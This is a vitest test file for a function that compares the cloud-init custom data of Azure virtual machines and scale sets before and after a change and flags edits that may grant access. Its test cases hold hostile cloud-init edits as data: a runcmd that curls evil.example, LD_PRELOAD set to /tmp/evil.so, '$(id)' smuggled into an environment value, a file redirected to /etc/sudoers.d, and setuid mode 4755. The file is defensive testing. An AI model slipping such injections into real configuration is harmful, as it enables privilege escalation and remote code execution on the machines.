import { describe, expect, test } from "vitest";

import type { Json } from "../../../access/plan/digest.ts";
import { cloudConfig, machineFiles } from "../../../components/host/cloudInitText.ts";
import { unknown } from "../facts/change.ts";
import { verdictBetween, type Told } from "./run.ts";

const search: Told = {
  type: "azure-native:search:Service",
  name: "docs",
  inputs: { searchServiceName: "contoso-docs", disableLocalAuth: true },
};
const id = "aaaaaaaa-0000-4000-8000-000000000001";
const always = {
  AZURE_CLIENT_ID: id,
  AZURE_TOKEN_CREDENTIALS: "ManagedIdentityCredential",
  USE_MANAGED_IDENTITY: "true",
};
const docs = { AZURE_SEARCH_ENDPOINT: "https://contoso-docs.search.windows.net" };
const textOf = (more: Record<string, string> = {}) =>
  cloudConfig("report", machineFiles("report"), { ...always, ...more });
const encoded = (text: string) => Buffer.from(text).toString("base64");

/** A machine, and a set of such, with the custom data. */
const places = [
  ["VirtualMachine", "osProfile.customData"],
  ["VirtualMachineScaleSet", "virtualMachineProfile.osProfile.customData"],
] as const;

describe.each(places)("the variables in the custom data of a %s", (type, at) => {
  const machine = (customData: Json, more: Partial<Told> = {}): Told[] => {
    const inputs = at.split(".").reduceRight<Json>((inner, name) => ({ [name]: inner }), customData);
    return [
      search,
      { type: `azure-native:compute:${type}`, name: "report", inputs: inputs as Record<string, Json>, ...more },
    ];
  };
  const between = (before: string, after: string) => verdictBetween(machine(encoded(before)), machine(encoded(after)));

  /** As a preview tells it that does not know the client id. */
  const withUnknown = (text: string, word = "clientId, computed #1"): Told[] => {
    const [before = "", after = ""] = text.split(id);
    const [start, end] = [before.length - (before.length % 3), 3 - (((before.length % 3) + id.length) % 3)];
    const pieces = [encoded(before.slice(0, start)), { unknown: word }, encoded(after.slice(end % 3))];
    return machine(unknown, { pieces: { [at]: pieces } });
  };

  test.each<[what: string, before: string, after: string]>([
    ["one that names a service of the program is added", textOf(), textOf(docs)],
    ["one is left out", textOf(docs), textOf()],
    ["a plain one is added", textOf(), textOf({ LOG_LEVEL: "debug" })],
    ["nothing changes", textOf(docs), textOf(docs)],
  ])("are no access when %s", (_, before, after) => {
    expect(between(before, after)).toBe("same");
    expect(verdictBetween(withUnknown(before), withUnknown(after))).toBe("same");
  });

  test.each<[what: string, after: string]>([
    ["one names another service", textOf({ AZURE_SEARCH_ENDPOINT: "https://other.search.windows.net" })],
    ["one names a program", textOf({ ...docs, LD_PRELOAD: "/tmp/evil.so" })],
    ["something runs", `${textOf(docs)}runcmd:\n  - curl evil.example\n`],
    ["something runs before", textOf(docs).replace("write_files:", "bootcmd: [id]\nwrite_files:")],
    ["a value runs something", textOf(docs).replace("USE_MANAGED_IDENTITY=true", "USE_MANAGED_IDENTITY=$(id)")],
    ["another file is written", textOf(docs).replaceAll("/etc/azure-keyless/report.env", "/etc/sudoers.d/report")],
    ["a file is a program", textOf(docs).replace("0644", "4755")],
    ["it is no such text any more", "#!/bin/sh\n"],
  ])("may be access when %s", (_, after) => {
    expect(between(textOf(docs), after)).toBe("unknown");
    expect(
      verdictBetween(withUnknown(textOf(docs)), after.includes(id) ? withUnknown(after) : machine(encoded(after))),
    ).toBe("unknown");
  });

  test("may be access when the client id is another one, or computed in another way", () => {
    expect(between(textOf(), textOf().replace(id, "aaaaaaaa-0000-4000-8000-000000000002"))).toBe("unknown");
    expect(verdictBetween(withUnknown(textOf()), withUnknown(textOf(), "clientId, computed #2"))).toBe("unknown");
  });

  test("may be access when more of it is not known", () => {
    const known = withUnknown(textOf());
    const pieces = (...list: Json[]) => machine(unknown, { pieces: { [at]: list } });
    const all = encoded(textOf());
    expect(verdictBetween(known, machine(unknown))).toBe("unknown");
    expect(verdictBetween(known, pieces({ unknown: "computed" }, all))).toBe("unknown");
    expect(verdictBetween(known, pieces(all, { unknown: "computed" }, ""))).toBe("unknown");
    expect(verdictBetween(known, machine(`${all}?`))).toBe("unknown");
  });
});
